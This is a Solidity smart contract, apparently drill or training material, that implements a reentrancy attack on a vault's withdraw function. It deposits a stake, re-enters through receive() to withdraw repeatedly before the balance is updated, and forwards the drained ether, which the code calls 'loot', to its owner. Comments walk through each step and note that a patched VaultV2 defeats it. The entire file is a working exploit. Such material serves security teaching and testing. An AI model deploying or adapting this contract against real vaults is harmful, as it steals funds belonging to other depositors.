// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @dev The two vault functions the attacker needs (VaultV1 and VaultV2 both
/// have them).
interface IVault {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
}

/// @title ReentrancyAttacker - exploits VaultV1.withdraw (drill material)
/// @notice How the attack works, for `attack{value: 1 ether}(10)`:
///   1. deposit 1 ether into the vault, so withdraw's balance check passes;
///   2. call vault.withdraw(1 ether);
///   3. the vault sends 1 ether to this contract, which runs receive();
///   4. receive() calls vault.withdraw(1 ether) again. The vault has not yet
///      written our balance down, so the check passes again and it pays
///      again, which runs receive() again, and so on;
///   5. after `rounds` withdrawals receive() stops re-entering, the nested
///      calls unwind, and each writes our balance to 1 - 1 = 0;
///   6. attack() sends everything this contract holds to its owner.
/// Net effect: 10 ether out for 1 ether in; 9 ether of other depositors' money
/// is gone. Against VaultV2 step 4 reverts, so the whole attack reverts; if
/// the vault is paused, step 1 reverts. Either way the vault's revert reason
/// bubbles up unchanged.
contract ReentrancyAttacker {
    /// @notice Who deployed this contract and receives the loot.
    address public immutable owner;
    /// @notice The vault (its proxy address) under attack.
    IVault public immutable vault;

    /// @notice Size of each withdrawal in the attack running now (0 when idle).
    uint256 public stake;
    /// @notice Re-entrant withdrawals still to do in the attack running now.
    uint256 public roundsLeft;

    /// @notice Emitted once per attack with the total sent to the owner.
    event Looted(uint256 stake, uint256 rounds, uint256 amount);

    constructor(address vaultAddr) {
        owner = msg.sender;
        vault = IVault(vaultAddr);
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "not owner");
        _;
    }

    /// @notice Deposit msg.value, then withdraw it `rounds` times in total.
    /// @param rounds Total number of withdrawals, including the first (>= 1).
    function attack(uint256 rounds) external payable onlyOwner {
        require(msg.value > 0, "no stake");
        require(rounds > 0, "no rounds");
        stake = msg.value;
        roundsLeft = rounds - 1; // the call below is the first withdrawal

        vault.deposit{value: msg.value}();
        vault.withdraw(msg.value);

        stake = 0;
        roundsLeft = 0;
        uint256 loot = address(this).balance;
        (bool ok, ) = owner.call{value: loot}("");
        require(ok, "payout failed");
        emit Looted(msg.value, rounds, loot);
    }

    /// @notice Runs every time the vault pays out; this is the re-entry.
    /// It only re-enters while an attack is running, the payment came from
    /// the vault, rounds remain, and the vault still holds a full stake (so
    /// a drain stops cleanly instead of reverting when the vault runs dry).
    receive() external payable {
        if (msg.sender == address(vault) && roundsLeft > 0 && address(vault).balance >= stake) {
            roundsLeft--;
            vault.withdraw(stake);
        }
    }
}
